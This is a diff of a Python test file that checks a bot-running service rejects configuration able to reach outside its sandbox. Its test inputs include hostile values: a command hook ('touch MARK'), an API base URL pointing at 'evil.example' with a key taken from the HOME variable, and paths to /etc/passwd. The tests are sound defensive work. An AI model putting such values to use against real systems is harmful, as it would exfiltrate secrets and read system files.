@@ -114,7 +114,7 @@ def test_shipped_bots_that_reach_nothing_take_any_options(visiting: httpx.Client
         ("chatter_options", '{command = {command = "touch MARK"}, http = {url = "http://localhost:1/"}}'),
         ("chatter_options", '{openai = {model = "m", base_url = "http://evil.example/", key_env = "HOME"}}'),
         ("models", '{match = "chat:command"}'),
-        ("models", '"os:path"'),
+        ("models", '{match = "some/model"}'),
         ("judge_options", '{command = {command = "touch MARK"}}'),
         ("judge_rubrics", '{match = "/etc/passwd"}'),
         ("judge_figures", "/etc/passwd"),
@@ -135,6 +135,7 @@ def test_settings_that_reach_out_are_those_of_config(
     for action in ("check", "plan", "start"):
         told = check(visiting, action, **{setting: text.replace("MARK", str(mark))})
         assert list(told["problems"]) == [setting]
+        assert "--allow-commands" in " ".join(told["problems"][setting])
         assert not told.get("started")
     assert not mark.exists()
 
